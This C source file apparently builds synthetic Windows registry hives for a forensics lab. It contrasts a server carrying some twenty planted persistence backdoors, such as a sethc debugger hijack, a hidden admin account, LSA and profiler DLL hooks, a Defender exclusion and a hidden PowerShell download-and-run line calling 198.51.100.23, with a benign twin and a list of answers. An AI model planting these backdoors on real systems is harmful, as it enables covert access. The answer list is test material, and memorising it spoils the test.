/*
 * ways_registry: hives of a server whose registry lets somebody back in, and the honest twin of each key.
 *
 * Safety   telling words have a '@' inside that is taken out when the evidence is written. No program lies behind any path.
 * Source   ways back in, 5, 6 and 8.
 */
#include "lab/story.h"

#include "../../tests/make_hive.h"

#include <string.h>

#define CONFIG "C/Windows/System32/config/"
#define CURRENT "ControlSet001\\"
#define NT "Microsoft\\Windows NT\\CurrentVersion\\"
#define CV "Microsoft\\Windows\\CurrentVersion\\"
#define CACHE NT "Schedule\\TaskCache\\"

static void text(struct mh *m, const char *key, int64_t us, const char *name, const char *value)
{
    char   plain[1024];
    size_t n = 0;

    for (; *value && n < sizeof plain - 1; value++)
        if (*value != '@')
            plain[n++] = *value;
    plain[n] = 0;
    mh_text(mh_key(m, key, us), name, strchr(plain, '%') ? MH_EXPAND : strchr(plain, '\n') ? MH_MULTI : MH_SZ, plain);
}

static void number(struct mh *m, const char *key, int64_t us, const char *name, uint32_t value) { mh_number(mh_key(m, key, us), name, value); }

static void put_bytes(struct lab *l, const char *path, const uint8_t *p, size_t n, int64_t us) { file_put(l, path, (struct str){ p, n }, us); }

static void put(struct lab *l, const char *path, struct mh *m, const char *name, int64_t us)
{
    size_t   n;
    uint8_t *p = mh_write(m, name, us, &n);

    put_bytes(l, path, p, n, us);
    free(p);
    mh_free(m);
}

/* ---- parts that both servers have ---- */

static struct mh *system_hive(struct lab *l, int64_t us)
{
    static const struct { const char *name, *image, *dll; uint32_t start; } service[] = {
        { "W32Time", "%SystemRoot%\\system32\\svchost.exe -k LocalService", "%systemroot%\\system32\\w32time.dll", 2 },
        { "W3SVC", "%windir%\\system32\\svchost.exe -k iissvcs", "%windir%\\system32\\inetsrv\\iisw3adm.dll", 2 },
        { "Spooler", "%SystemRoot%\\System32\\spoolsv.exe", NULL, 2 },
        { "MSExchangeTransport", "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeTransport.exe\"", NULL, 2 },
        { "VGAuthService", "\"C:\\Program Files\\VMware\\VMware Tools\\VMware VGAuth\\VGAuthService.exe\"", NULL, 2 },
        { "WinDefend", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2101.9-0\\MsMpEng.exe\"", NULL, 2 },
    };
    struct mh *m = mh_open("ROOT", us);

    number(m, "Select", us, "Current", 1);
    text(m, CURRENT "Control\\ComputerName\\ComputerName", us, "ComputerName", l->server);
    text(m, CURRENT "Control\\TimeZoneInformation", us, "TimeZoneKeyName", "W. Europe Standard Time");
    text(m, CURRENT "Services\\Tcpip\\Parameters", us, "Domain", l->domain);
    text(m, CURRENT "Control\\Session Manager", us, "BootExecute", "autocheck autochk *\n");
    text(m, CURRENT "Control\\Session Manager\\Environment", us, "ComSpec", "%SystemRoot%\\system32\\cmd.exe");
    text(m, CURRENT "Control\\SecurityProviders", us, "SecurityProviders", "credssp.dll");
    text(m, CURRENT "Control\\Lsa", us, "Authentication Packages", "msv1_0\n");
    text(m, CURRENT "Control\\Print\\Monitors\\Local Port", us, "Driver", "localspl.dll");
    text(m, CURRENT "Services\\W32Time\\TimeProviders\\NtpClient", us, "DllName", "%systemroot%\\system32\\w32time.dll");
    text(m, CURRENT "Services\\LanmanWorkstation\\NetworkProvider", us, "ProviderPath", "%SystemRoot%\\System32\\ntlanman.dll");
    number(m, CURRENT "Control\\Terminal Server", us, "fDenyTSConnections", 0);
    for (size_t i = 0; i < sizeof service / sizeof *service; i++) {
        char key[256];
        snprintf(key, sizeof key, CURRENT "Services\\%s", service[i].name);
        text(m, key, us, "ImagePath", service[i].image);
        number(m, key, us, "Start", service[i].start);
        number(m, key, us, "Type", 0x20);
        strcat(key, "\\Parameters");
        if (service[i].dll)
            text(m, key, us, "ServiceDll", service[i].dll);
    }
    return m;
}

static struct mh *software_hive(struct lab *l, int64_t us)
{
    struct mh *m = mh_open("ROOT", us);
    int        v[4];

    build_parts(l->build_old, v);
    text(m, NT, us, "ProductName", "Windows Server 2016 Standard");
    text(m, NT, us, "CurrentBuild", "14393");
    number(m, NT, us, "UBR", 4169);
    text(m, NT "ProfileList\\S-1-5-18", us, "ProfileImagePath", "%systemroot%\\system32\\config\\systemprofile");
    text(m, NT "ProfileList\\S-1-5-21-1-2-3-500", us, "ProfileImagePath", "C:\\Users\\administrator");
    text(m, NT "Winlogon", us, "Shell", "explorer.exe");
    text(m, "Microsoft\\ExchangeServer\\v15\\Setup", us, "MsiInstallPath", pool_fmt(&l->keep, "%s\\", l->install_win));
    number(m, "Microsoft\\ExchangeServer\\v15\\Setup", us, "MsiProductMajor", (uint32_t)v[0]);
    number(m, "Microsoft\\ExchangeServer\\v15\\Setup", us, "MsiProductMinor", (uint32_t)v[1]);
    number(m, "Microsoft\\ExchangeServer\\v15\\Setup", us, "MsiBuildMajor", (uint32_t)v[2]);
    number(m, "Microsoft\\ExchangeServer\\v15\\Setup", us, "MsiBuildMinor", (uint32_t)v[3]);
    text(m, CV "Run", us, "VMware User Process", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr");
    text(m, "Microsoft\\NetSh", us, "whhelper", "whhelper.dll");
    text(m, NT "Windows", us, "AppInit_DLLs", "");
    return m;
}

static void wide(struct buf *b, const char *s)
{
    uint32_t n = 2 * (uint32_t)strlen(s);

    for (int i = 0; i < 4; i++)
        buf_chr(b, (char)(n >> 8 * i));
    for (; *s; s++) {
        buf_chr(b, *s);
        buf_chr(b, 0);
    }
}

/* A task as the cache has it; without `described` its entry in the tree has no security descriptor. */
static void cached(struct mh *m, const char *name, const char *id, const char *command, const char *arguments, bool described, int64_t us)
{
    char       key[300], path[200];
    struct buf b = { 0 };

    snprintf(key, sizeof key, CACHE "Tree\\%s", name);
    mh_text(mh_key(m, key, us), "Id", MH_SZ, id);
    mh_number(mh_key(m, key, us), "Index", 3);
    if (described)
        mh_value(mh_key(m, key, us), "SD", MH_BINARY, "\1\0\4\x80\x14\0\0\0", 8);
    snprintf(key, sizeof key, CACHE "Tasks\\%s", id);
    snprintf(path, sizeof path, "\\%s", name);
    mh_text(mh_key(m, key, us), "Path", MH_SZ, path);
    buf_add(&b, "\3\0", 2);
    wide(&b, "Author");
    buf_add(&b, "\x66\x66", 2);
    wide(&b, "");
    wide(&b, command);
    wide(&b, arguments);
    wide(&b, "");
    buf_add(&b, "\0\0", 2);
    mh_value(mh_key(m, key, us), "Actions", MH_BINARY, b.p, b.n);
    buf_free(&b);
}

/* A task whose action is a component: a class that names a library. */
static void component_task(struct mh *m, const char *name, const char *id, const char *library, int64_t us)
{
    char    key[300], class[64];
    uint8_t actions[6 + 6 + 16 + 4] = { 3, 0 };

    cached(m, name, id, "unused", "", true, us);
    actions[6] = actions[7] = 0x77;
    for (int i = 0; i < 16; i++)
        actions[12 + i] = (uint8_t)(id[1] + i);
    const uint8_t *p = actions + 12;
    snprintf(class, sizeof class, "{%02X%02X%02X%02X-%02X%02X-%02X%02X-%02X%02X-%02X%02X%02X%02X%02X%02X}", p[3], p[2], p[1], p[0], p[5], p[4], p[7], p[6], p[8], p[9], p[10], p[11], p[12], p[13], p[14], p[15]);
    snprintf(key, sizeof key, CACHE "Tasks\\%s", id);
    struct mh_value *v = mh_key(m, key, us)->value;
    while (v && strcmp(v->name, "Actions"))
        v = v->next;
    if (!v)
        lab_die("a task without actions");
    memcpy(v->data, actions, sizeof actions);
    v->n = sizeof actions;
    snprintf(key, sizeof key, "Classes\\CLSID\\%s\\InprocServer32", class);
    text(m, key, us, "", library);
}

/* ---- SAM ---- */

static void user(struct mh *m, const char *name, uint32_t rid, uint32_t own, uint32_t flags, int64_t us)
{
    char    key[100];
    uint8_t f[80] = { 2, 0, 1 }, v[0xCC + 128] = { 0 };

    snprintf(key, sizeof key, "SAM\\Domains\\Account\\Users\\%08X", rid);
    mh_u64(f + 8, mh_ticks(us));
    mh_u32(f + 0x30, own);
    mh_u16(f + 0x38, 0x10 | flags);
    mh_u16(f + 0x42, 3);
    mh_u32(v + 12 + 4, 2 * (uint32_t)strlen(name));
    for (size_t i = 0; name[i]; i++)
        v[0xCC + 2 * i] = (uint8_t)name[i];
    mh_value(mh_key(m, key, us), "F", MH_BINARY, f, sizeof f);
    mh_value(mh_key(m, key, us), "V", MH_BINARY, v, sizeof v);
    snprintf(key, sizeof key, "SAM\\Domains\\Account\\Users\\Names\\%s", name);
    mh_value(mh_key(m, key, us), "", rid, "", 0);
}

static struct mh *sam_hive(const uint32_t *admin, size_t admin_n, int64_t us)
{
    static const uint32_t machine[3] = { 4242, 1717, 31337 };
    struct mh *m = mh_open("ROOT", us);
    uint8_t    v[64] = { 0 }, c[0x34 + 28 * 8] = { 0 };

    for (size_t i = 0; i < 3; i++)
        mh_u32(v + sizeof v - 12 + 4 * i, machine[i]);
    mh_value(mh_key(m, "SAM\\Domains\\Account", us), "V", MH_BINARY, v, sizeof v);
    mh_u32(c + 0x30, (uint32_t)admin_n);
    for (size_t i = 0; i < admin_n && i < 8; i++) {
        uint8_t *p = c + 0x34 + 28 * i;
        p[0] = 1, p[1] = 5, p[7] = 5;
        mh_u32(p + 8, 21);
        for (size_t k = 0; k < 3; k++)
            mh_u32(p + 12 + 4 * k, machine[k]);
        mh_u32(p + 24, admin[i]);
    }
    mh_value(mh_key(m, "SAM\\Domains\\Builtin\\Aliases\\00000220", us), "C", MH_BINARY, c, 0x34 + 28 * admin_n);
    return m;
}

/* ---- stories ---- */

void tell_ways_registry(struct lab *l)
{
    int64_t    old = at("2020-10-17T14:02:00"), t = at("2021-03-03T04:20:00");
    struct mh *m;
    size_t     n, log_n;

    m = system_hive(l, old);
    text(m, CURRENT "Services\\TeaTime", t, "ImagePath", "C:\\Users\\Public\\tea.exe -k");
    number(m, CURRENT "Services\\TeaTime", t, "Type", 0x10);
    text(m, CURRENT "Services\\TermService\\Parameters", t, "ServiceDll", "%SystemRoot%\\System32\\termsrvx.dll");
    text(m, CURRENT "Services\\W3SVC", t, "Environment", "COR_ENABLE_PROFILING=1\nCOR_PROFILER={9A3F8C11-2B4D-4E6F-8A90-1B2C3D4E5F60}\nCOR_PROFILER_PATH=C:\\Users\\Public\\spout.dll");
    text(m, CURRENT "Services\\PortProxy\\v4tov4\\tcp", t, "0.0.0.0/8443", "127.0.0.1/3389");
    text(m, CURRENT "Control\\Session Manager\\AppCertDlls", t, "AppSecDll", "C:\\PerfLogs\\lid.dll");
    text(m, CURRENT "Control\\Lsa", t, "Notification Packages", "scecli\nC:\\Windows\\Help\\strainer\n");
    text(m, CURRENT "Control\\Print\\Monitors\\Saucer", t, "Driver", "C:\\PerfLogs\\saucer.dll");
    text(m, CURRENT "Services\\W32Time\\TimeProviders\\Clock", t, "DllName", "C:\\ProgramData\\clock.dll");
    number(m, CURRENT "Control\\SecurityProviders\\WDigest", t, "UseLogonCredential", 1);
    text(m, CURRENT "Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules", t, "{0B1C2D3E-0000-4000-8000-00000000F1FE}", "v2.26|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\\Users\\Public\\tea.exe|Name=Tea|");
    put(l, CONFIG "SYSTEM", m, "SYSTEM", t);

    m = software_hive(l, old);
    text(m, NT "Winlogon", t, "Userinit", "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\cosy.exe");
    text(m, NT "Image File Execution Options\\sethc.exe", t, "Debugger", "C:\\Windows\\System32\\c@md.exe");
    text(m, "Microsoft\\NetSh", t, "infuser", "C:\\Windows\\Fonts\\infuser.dll");
    text(m, "Microsoft\\Active Setup\\Installed Components\\{0B1C2D3E-0000-4000-8000-00000000C0DE}", t, "StubPath", "powers@hell.exe -nop -w hidden -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/e')");
    cached(m, "Microsoft\\Windows\\Cups\\Wash", "{11111111-0000-4000-8000-00000000C0DE}", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\cups.dll,Wash", false, t);
    component_task(m, "Microsoft\\Windows\\Cups\\Dry", "{44444444-0000-4000-8000-00000000C0DE}", "C:\\ProgramData\\dry.dll", t);
    number(m, "Microsoft\\Windows Defender\\Exclusions\\Paths", t, "C:\\", 0);
    number(m, NT "Winlogon\\SpecialAccounts\\UserList", t, "steward", 0);
    text(m, CV "Run", t, "Kettle", "C:\\Program Files\\kettle.exe");
    uint8_t *before = mh_write(m, "SOFTWARE", t, &n);
    /* The last change stands in the transaction log only. */
    for (struct mh_value *v = mh_key(m, CV "Run", t)->value; v; v = v->next)
        if (!strcmp(v->name, "Kettle"))
            for (size_t i = 0; i < sizeof "C:\\Users\\Public\\kettle.exe" - 1; i++)
                v->data[2 * i] = (uint8_t)"C:\\Users\\Public\\\\kettle.exe"[i];
    uint8_t *after = mh_write(m, "SOFTWARE", t, &n);
    mh_dirty(before, 9, 8);
    mh_dirty(after, 9, 9);
    uint8_t *log = mh_new_log(before, after, n, 8, &log_n);
    put_bytes(l, CONFIG "SOFTWARE", before, n, t);
    put_bytes(l, CONFIG "SOFTWARE.LOG1", log, log_n, t);
    free(before), free(after), free(log);
    mh_free(m);

    m = sam_hive((const uint32_t[]){ 500, 1003 }, 2, old);
    user(m, "Administrator", 500, 500, 0, old);
    user(m, "Guest", 501, 500, 1, t);
    user(m, "teaboy$", 1002, 1002, 0, t);
    user(m, "steward", 1003, 1003, 0, t);
    put(l, CONFIG "SAM", m, "SAM", t);

    m = mh_open("ROOT", old);
    text(m, "Software\\" CV "RunOnce", t, "Steep", "rund@ll32.exe java@script:\"\\..\\mshtml,RunHTMLApplication \"");
    text(m, "Software\\SimonTatham\\PuTTY\\SshHostKeys", t, "rsa2@22:198.51.100.23", "0x23");
    put(l, "C/Users/administrator/NTUSER.DAT", m, "NTUSER.DAT", t);

    intrude(l, &someone, "2021-03-03T02:10:30");
    all_covered(l);
    entered(l, 1);
    door(l, "present", false, false);
    truth_drop(l, "use.covered");
    truth_text(l, "back_door.covered", "full");
    static const char *const ways[] = { "TeaTime", "TermService", "COR_PROFILER_PATH", "0.0.0.0/8443 to 127.0.0.1/3389", "AppSecDll", "strainer", "Saucer", "Clock", "cosy.exe", "sethc.exe", "infuser",
                                        "{0B1C2D3E-0000-4000-8000-00000000C0DE}", "Microsoft\\Windows\\Cups\\Wash", "Microsoft\\Windows\\Cups\\Dry", "Tea", "Kettle", "Guest", "teaboy$", "steward", "Steep" };
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
        truth_list(l, "ways_back", ways[i]);
    truth_list(l, "intruder_clients", someone.client);
}

void tell_ways_registry_benign(struct lab *l)
{
    int64_t    old = at("2020-10-17T14:02:00"), t = at("2021-02-10T09:20:00");
    struct mh *m = system_hive(l, old);

    text(m, CURRENT "Services\\MonitorAgent", t, "ImagePath", "\"C:\\Program Files\\Vendor\\nssm.exe\"");
    text(m, CURRENT "Services\\MonitorAgent", t, "FailureCommand", "\"C:\\Program Files\\Vendor\\restart.exe\"");
    text(m, CURRENT "Services\\MpKslA1B2C3D4", t, "ImagePath", "\\??\\C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{0B1C2D3E-0000-4000-8000-00000000C0DE}\\MpKslDrv.sys");
    text(m, CURRENT "Services\\ScreenConnect Client (1234567890abcdef)", t, "ImagePath", "\"C:\\Program Files (x86)\\ScreenConnect Client (1234567890abcdef)\\ScreenConnect.ClientService.exe\" \"?e=Access&y=Guest&h=help.vendor.example\"");
    text(m, CURRENT "Services\\TermService\\Parameters", t, "ServiceDll", "%SystemRoot%\\System32\\termsrv.dll");
    text(m, CURRENT "Services\\W3SVC", t, "Environment", "COR_ENABLE_PROFILING=1\nCOR_PROFILER={71DA0A04-7777-4EC6-9643-7D28B46A8A41}\nCOR_PROFILER_PATH=C:\\Program Files\\New Relic\\.NET Agent\\NewRelic.Profiler.dll");
    text(m, CURRENT "Services\\PortProxy\\v4tov4\\tcp", t, "10.20.0.11/8080", "10.20.0.12/80");
    text(m, CURRENT "Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules", t, "{0B1C2D3E-0000-4000-8000-00000000F1FE}", "v2.26|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=3389|Name=Remote desktop|");
    text(m, CURRENT "Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules", t, "{0B1C2D3E-0000-4000-8000-00000000F2FE}", "v2.26|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\\Program Files\\Vendor\\agent.exe|Name=Agent|");
    text(m, CURRENT "Control\\Lsa", t, "Notification Packages", "scecli\nrassfm\nVendorPasswordFilter\n");
    text(m, CURRENT "Control\\Lsa", t, "Security Packages", "\"\"\n");
    text(m, CURRENT "Control\\Print\\Monitors\\Vendor Port", t, "Driver", "vendmon.dll");
    text(m, CURRENT "Services\\W32Time\\TimeProviders\\VMICTimeProvider", t, "DllName", "%SystemRoot%\\System32\\vmictimeprovider.dll");
    put(l, CONFIG "SYSTEM", m, "SYSTEM", t);

    m = software_hive(l, old);
    text(m, NT "Winlogon", t, "Userinit", "C:\\Windows\\system32\\userinit.exe,");
    text(m, NT "Image File Execution Options\\taskmgr.exe", t, "Debugger", "\"C:\\Tools\\procexp64.exe\"");
    text(m, NT "Image File Execution Options\\w3wp.exe", t, "VerifierDlls", "vrfcore.dll vfbasics.dll");
    text(m, CV "Run", t, "SecurityHealth", "%windir%\\system32\\SecurityHealthSystray.exe");
    text(m, CV "Run", t, "Teams", "C:\\Users\\administrator\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\"");
    text(m, "Microsoft\\NetSh", t, "vendor", "C:\\Program Files\\Vendor\\netsh_vendor.dll");
    text(m, "Microsoft\\Active Setup\\Installed Components\\{89820200-ECBD-11cf-8B85-00AA005B4340}", t, "StubPath", "%SystemRoot%\\system32\\regsvr32.exe /s /n /i:U shell32.dll");
    cached(m, "Microsoft\\Windows\\Defrag\\ScheduledDefrag", "{22222222-0000-4000-8000-00000000C0DE}", "%windir%\\system32\\defrag.exe", "-c -h -k -g -$", true, old);
    component_task(m, "Microsoft\\Windows\\Time\\Check", "{55555555-0000-4000-8000-00000000C0DE}", "%SystemRoot%\\System32\\timetool.dll", old);
    cached(m, "Nightly backup", "{33333333-0000-4000-8000-00000000C0DE}", "powershell.exe", "-NoProfile -ExecutionPolicy Bypass -File \"C:\\Scripts\\backup mail.ps1\"", true, t);
    number(m, "Microsoft\\Windows Defender\\Exclusions\\Processes", t, "%SystemRoot%\\System32\\inetsrv\\w3wp.exe", 0);
    number(m, "Microsoft\\Windows Defender\\Exclusions\\Paths", t, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox", 0);
    number(m, NT "Winlogon\\SpecialAccounts\\UserList", t, "vendor_service", 0);
    number(m, NT "Winlogon\\SpecialAccounts\\UserList", t, "agent", 0);
    text(m, NT "Image File Execution Options\\sethc.exe", t, "Debugger", "systray.exe");
    put(l, CONFIG "SOFTWARE", m, "SOFTWARE", t);

    m = sam_hive((const uint32_t[]){ 500, 1001, 1003 }, 3, old);
    user(m, "Administrator", 500, 500, 0, old);
    user(m, "Guest", 501, 501, 1, old);
    user(m, "DefaultAccount", 503, 503, 1, old);
    user(m, "backup", 1001, 1001, 0, t);
    user(m, "vendor_service", 1002, 1002, 0, t);
    user(m, "agent", 1003, 1003, 0, old);
    put(l, CONFIG "SAM", m, "SAM", t);

    m = mh_open("ROOT", old);
    text(m, "Software\\" CV "Run", t, "OneDrive", "\"C:\\Users\\administrator\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background");
    text(m, "Software\\SimonTatham\\PuTTY\\SshHostKeys", t, "rsa2@22:switch7.bakery.example", "0x23");
    number(m, "Software\\Sysinternals\\PsExec", t, "EulaAccepted", 1);
    put(l, "C/Users/administrator/NTUSER.DAT", m, "NTUSER.DAT", t);
    /* With the registry everything was seen that a closed door needs. */
    all_covered(l);
    truth_text(l, "back_door.covered", "full");
    truth_text(l, "door_open.state", "no");
}
